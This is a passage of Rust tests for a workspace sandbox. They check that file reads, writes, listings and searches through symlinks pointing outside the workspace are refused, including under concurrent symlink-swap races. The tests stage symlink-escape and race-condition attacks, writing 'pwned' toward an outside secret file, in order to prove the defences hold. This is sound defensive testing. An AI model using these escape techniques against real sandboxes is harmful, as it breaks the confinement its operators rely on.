            fx.ws.list_dir("").unwrap().is_empty(),
            "nothing was created inside either"
        );
    }

    #[test]
    fn symlink_to_a_file_outside_is_refused() {
        let fx = fixture();
        symlink(fx.outside.join("secret.txt"), fx.ws_path.join("abs-link")).unwrap();
        symlink("../outside/secret.txt", fx.ws_path.join("rel-link")).unwrap();
        for link in ["abs-link", "rel-link"] {
            let e = refused(&fx, |ws| ws.read_file(link));
            assert!(matches!(e, ToolError::Outside { .. }), "{link}: {e}");
            let e = refused(&fx, |ws| ws.write_file(link, "pwned"));
            assert!(matches!(e, ToolError::Symlink { .. }), "{link}: {e}");
        }
        assert_eq!(
            std::fs::read_to_string(fx.outside.join("secret.txt")).unwrap(),
            "secret\n"
        );
    }

    #[test]
    fn symlinked_directory_pointing_outside_is_refused() {
        let fx = fixture();
        symlink(&fx.outside, fx.ws_path.join("link")).unwrap();
        symlink("../outside", fx.ws_path.join("rel")).unwrap();
        for dir in ["link", "rel"] {
            let e = refused(&fx, |ws| ws.read_file(&format!("{dir}/secret.txt")));
            assert!(matches!(e, ToolError::Outside { .. }), "{dir}: {e}");
            let e = refused(&fx, |ws| ws.write_file(&format!("{dir}/file"), "pwned"));
            assert!(matches!(e, ToolError::Outside { .. }), "{dir}: {e}");
            let e = refused(&fx, |ws| {
                ws.write_file(&format!("{dir}/new/deeper/file"), "pwned")
            });
            assert!(matches!(e, ToolError::Outside { .. }), "{dir}: {e}");
            let e = refused(&fx, |ws| ws.list_dir(dir));
            assert!(matches!(e, ToolError::Outside { .. }), "{dir}: {e}");
            let e = refused(&fx, |ws| ws.search("secret", Some(dir)));
            assert!(matches!(e, ToolError::Outside { .. }), "{dir}: {e}");
        }
        // A whole-workspace search does not wander through the link either.
        assert!(fx.ws.search("secret", None).unwrap().is_empty());
    }

    #[test]
    fn dangling_symlink_pointing_outside_is_not_written_through() {
        let fx = fixture();
        let target = fx.outside.join("created.txt");
        symlink(&target, fx.ws_path.join("dangling")).unwrap();
        symlink(
            "../outside/created-rel.txt",
            fx.ws_path.join("dangling-rel"),
        )
        .unwrap();
        for link in ["dangling", "dangling-rel"] {
            let e = refused(&fx, |ws| ws.write_file(link, "pwned"));
            assert!(matches!(e, ToolError::Symlink { .. }), "{link}: {e}");
            let e = refused(&fx, |ws| ws.read_file(link));
            assert!(
                matches!(e, ToolError::Outside { .. } | ToolError::NotFound { .. }),
                "{link}: {e}"
            );
        }
        assert!(!target.exists());
        assert!(!fx.outside.join("created-rel.txt").exists());
    }

    #[test]
    fn symlinks_inside_the_workspace_are_followed_for_reading_but_not_written_through() {
        let fx = fixture();
        fx.ws.write_file("real/file.txt", "inside\n").unwrap();
        symlink("real/file.txt", fx.ws_path.join("file-link")).unwrap();
        symlink("real", fx.ws_path.join("dir-link")).unwrap();
        assert_eq!(fx.ws.read_file("file-link").unwrap(), "inside\n");
        assert_eq!(fx.ws.read_file("dir-link/file.txt").unwrap(), "inside\n");
        // Intermediate symlinked folders that stay inside are fine...
        fx.ws.write_file("dir-link/other.txt", "ok").unwrap();
        assert_eq!(
            std::fs::read_to_string(fx.ws_path.join("real/other.txt")).unwrap(),
            "ok"
        );
        // ...but the final component may not be a symlink.
        assert!(matches!(
            fx.ws.write_file("file-link", "no"),
            Err(ToolError::Symlink { .. })
        ));
        assert_eq!(fx.ws.read_file("real/file.txt").unwrap(), "inside\n");
    }

    /// How the swapper thread replaces `d` with a symlink to an outside
    /// folder and back.
    #[derive(Clone, Copy, Debug)]
    enum Swap {
        /// `renameat2(RENAME_EXCHANGE)` with a prepared symlink: `d` always
        /// exists and flips atomically between folder and symlink.
        Exchange,
        /// Delete `d`, create the symlink, delete it, create a folder: `d` is
        /// briefly missing too (and the writer may recreate it).
        Recreate,
    }

    fn concurrent_swap(swap: Swap) {
        let fx = fixture();
        let target_dir = fx.outside.join("target");
        std::fs::create_dir(&target_dir).unwrap();
        let before = snapshot(&fx.outside);
        let d = fx.ws_path.join("d");
        let alt = fx.ws_path.join("d-alt");
        std::fs::create_dir(&d).unwrap();
        symlink(&target_dir, &alt).unwrap();

        let stop = Arc::new(AtomicBool::new(false));
        let swaps = Arc::new(AtomicUsize::new(0));
        let swapper = {
            let (stop, swaps) = (Arc::clone(&stop), Arc::clone(&swaps));
            let (d, alt, target_dir) = (d.clone(), alt.clone(), target_dir.clone());
            std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    match swap {
                        Swap::Exchange => {
                            use rustix::fs::{CWD, RenameFlags, renameat_with};
                            if let Err(e) = renameat_with(CWD, &d, CWD, &alt, RenameFlags::EXCHANGE)
                            {
                                panic!("exchange failed: {e}");
                            }
                        }
                        Swap::Recreate => {
                            // Every step may fail because the writer
                            // recreated `d` meanwhile; just keep going.
                            let _ = std::fs::remove_dir_all(&d);
                            let _ = std::fs::remove_file(&d);
                            let _ = symlink(&target_dir, &d);
                            std::thread::yield_now();
                            let _ = std::fs::remove_file(&d);
                            let _ = std::fs::create_dir(&d);
                        }
                    }
                    swaps.fetch_add(1, Ordering::Relaxed);
                    std::thread::yield_now();
                }
            })
        };
        // Start writing only once the swapper is busy.
        while swaps.load(Ordering::Relaxed) < 3 {
            std::thread::yield_now();
        }

        // At least 2000 writes, and on until the swapper has had its turns
        // (a loaded machine may starve it for a while).
        let (mut written, mut refused, mut tries) = (0, 0, 0);
        while tries < 2000 || (swaps.load(Ordering::Relaxed) < 10 && tries < 1_000_000) {
            tries += 1;
            match fx.ws.write_file("d/f", &format!("write {tries}")) {
                Ok(_) => written += 1,
                Err(_) => refused += 1,
            }
            // Give the swapper a chance to run between writes too.
            std::thread::yield_now();
        }
        stop.store(true, Ordering::Relaxed);
        swapper.join().unwrap();

        let swaps = swaps.load(Ordering::Relaxed);
        eprintln!("{swap:?} swap: {written} writes, {refused} refusals, {swaps} swaps");
        assert!(swaps >= 10, "the swapper barely ran");
        assert_eq!(written + refused, tries);
        assert_eq!(
            std::fs::read_dir(&target_dir).unwrap().count(),
            0,
            "a write escaped"
        );
        assert_eq!(snapshot(&fx.outside), before);
    }

    #[test]
    fn concurrent_exchange_of_a_directory_for_an_outside_symlink_never_escapes() {
        concurrent_swap(Swap::Exchange);
    }

    #[test]
    fn concurrent_recreation_of_a_directory_as_an_outside_symlink_never_escapes() {
        concurrent_swap(Swap::Recreate);
    }
}
